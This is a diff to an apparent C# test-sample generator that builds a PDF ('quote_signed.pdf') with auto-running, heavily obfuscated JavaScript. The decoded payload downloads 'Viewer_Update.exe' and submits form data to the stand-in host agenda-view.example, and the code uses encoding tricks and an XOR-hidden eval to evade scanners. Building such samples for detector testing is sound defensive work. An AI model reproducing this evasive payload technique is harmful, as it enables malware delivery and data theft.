@@ -19,7 +19,7 @@ public sealed class PdfScripts : EighthRound
             .Add(5, "<< /Type /Action /S /J#61v#61Scr#69pt /J#53 6 0 R >>").Stream(6, "/Filter [ /ASCIIHexDecode /FlateDecode ]", Encoding.ASCII.GetBytes(Convert.ToHexString(EighthForms.Zlib(Encoding.Latin1.GetBytes(spray))) + ">")).Build());
         var hidden = "var t = this.info.Subject; var r = ''; for (var i = 0; i < t.length; i += 2) r += String.fromCharCode(parseInt(t.substr(i, 2), 16) ^ 0x21); (app)['ev' + 'al'](r);";
         var inside = "app.launchURL('http://agenda-view.example/dl/Viewer_Update.exe', true); this.submitForm({ cURL: 'http://agenda-view.example/k', cSubmitAs: 'XML' });";
-        byte[] objects = Encoding.Latin1.GetBytes("7 0 8 61 << /S /JavaScript /JS 9 0 R /Next 8 0 R               >><< /S /JavaScript /JS (this.disclosed = true;) >>");
+        byte[] objects = Encoding.Latin1.GetBytes("7 0 8 56 << /S /JavaScript /JS 9 0 R /Next 8 0 R               >><< /S /JavaScript /JS (this.disclosed = true;) >>");
         yield return ("quote_signed.pdf", new PdfBuilder().Catalogue("/AA << /WC 7 0 R >> /OpenAction 7 0 R").Add(7, "<< /S /JavaScript /JS 9 0 R >>").Stream(9, "/Filter /FlateDecode", EighthForms.Zlib(Encoding.Latin1.GetBytes(hidden)))
             .Add(10, "<< /Subject <" + Convert.ToHexString(Encoding.Latin1.GetBytes(Convert.ToHexString(EighthForms.Turned(Encoding.Latin1.GetBytes(inside), 0x21)).ToLowerInvariant())) + "> /Producer (wkhtmltopdf) >>").Stream(11, "/Type /ObjStm /N 2 /First 9", objects).Build());
     }
